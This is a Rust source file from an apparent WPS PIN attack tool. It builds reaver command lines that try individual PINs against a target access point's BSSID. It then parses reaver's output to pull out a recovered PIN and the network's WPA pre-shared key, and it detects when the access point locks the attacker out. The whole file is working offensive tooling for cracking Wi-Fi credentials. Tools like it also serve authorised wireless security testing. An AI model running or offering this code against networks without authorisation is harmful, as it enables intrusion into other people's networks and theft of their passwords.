/*!
 * WPS PIN attempt glue
 *
 * Builds the reaver invocation for a single PIN and interprets what reaver
 * printed. reaver itself does the protocol work; all we see is its output.
 *
 * External dependencies:
 * - reaver: WPS attack tool
 */

use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::core::config::{AttackConfig, ToolsConfig};
use crate::core::process::{CommandRunner, CommandSpec};
use crate::core::session::SessionStatus;

/// What a single reaver run told us
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttemptVerdict {
    /// PIN accepted; either value may be missing if reaver's output was cut short
    Success {
        pin: Option<String>,
        password: Option<String>,
    },
    /// AP is locking us out
    RateLimited,
    /// PIN rejected or nothing conclusive
    Failed,
}

/// Result returned to the caller of `attack`
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackOutcome {
    pub success: bool,
    pub pin: Option<String>,
    pub password: Option<String>,
    pub error: Option<String>,
    pub status: SessionStatus,
    pub attempts: usize,
}

impl AttackOutcome {
    pub fn found(pin: String, password: Option<String>, attempts: usize) -> Self {
        Self {
            success: true,
            pin: Some(pin),
            password,
            error: None,
            status: SessionStatus::Succeeded,
            attempts,
        }
    }

    pub fn failed(status: SessionStatus, error: impl Into<String>, attempts: usize) -> Self {
        Self {
            success: false,
            pin: None,
            password: None,
            error: Some(error.into()),
            status,
            attempts,
        }
    }
}

/// `reaver -i IFACE -b BSSID -p PIN -vv -L -N -d DELAY -T 1 -t RECV [extra...]`
pub fn reaver_command(
    tools: &ToolsConfig,
    attack: &AttackConfig,
    iface: &str,
    bssid: &str,
    pin: &str,
) -> CommandSpec {
    CommandSpec::new(&tools.reaver)
        .args(["-i", iface, "-b", bssid, "-p", pin])
        .args(["-vv", "-L", "-N"])
        .arg("-d")
        .arg(attack.delay_secs.to_string())
        .args(["-T", "1"])
        .arg("-t")
        .arg(attack.receive_timeout_secs.to_string())
        .args(attack.extra_args.iter().cloned())
}

fn psk_pattern() -> Option<&'static Regex> {
    static PATTERN: OnceLock<Option<Regex>> = OnceLock::new();
    PATTERN
        .get_or_init(|| Regex::new(r"WPA PSK.*?'([^']+)'").ok())
        .as_ref()
}

fn pin_pattern() -> Option<&'static Regex> {
    static PATTERN: OnceLock<Option<Regex>> = OnceLock::new();
    PATTERN
        .get_or_init(|| Regex::new(r"WPS PIN[^0-9\n]*(\d{8})").ok())
        .as_ref()
}

/// Extract the pre-shared key from reaver output
///
/// Prefers the quoted form (`WPA PSK: 'secret'`) and falls back to whatever
/// follows `WPA PSK:` on the line.
pub fn extract_password(output: &str) -> Option<String> {
    if let Some(caps) = psk_pattern().and_then(|re| re.captures(output)) {
        return Some(caps[1].to_string());
    }

    output
        .lines()
        .filter_map(|line| line.split_once("WPA PSK:"))
        .map(|(_, rest)| rest.trim().trim_matches(['\'', '"']).trim())
        .find(|psk| !psk.is_empty())
        .map(str::to_string)
}

/// Extract an 8-digit WPS PIN reported by reaver
pub fn extract_pin(output: &str) -> Option<String> {
    pin_pattern()
        .and_then(|re| re.captures(output))
        .map(|caps| caps[1].to_string())
}

/// Interpret combined reaver stdout/stderr
pub fn analyze_attempt(output: &str) -> AttemptVerdict {
    if output.contains("WPS PIN found") || output.contains("WPS PIN:") || output.contains("WPA PSK") {
        return AttemptVerdict::Success {
            pin: extract_pin(output),
            password: extract_password(output),
        };
    }

    if output.contains("Detected AP rate limiting") || output.contains("AP has locked") {
        return AttemptVerdict::RateLimited;
    }

    AttemptVerdict::Failed
}

/// Check if `program` is installed, via `which`
pub fn tool_available(runner: &dyn CommandRunner, tools: &ToolsConfig, program: &str) -> bool {
    runner
        .output(&CommandSpec::new(&tools.which).arg(program))
        .map(|out| out.success())
        .unwrap_or(false)
}

/// First non-empty line of `<program> -h` (reaver prints its banner there)
pub fn tool_version(runner: &dyn CommandRunner, program: &str) -> Option<String> {
    let output = runner.output(&CommandSpec::new(program).arg("-h")).ok()?;
    output
        .combined()
        .lines()
        .map(str::trim)
        .find(|line| !line.is_empty())
        .map(str::to_string)
}
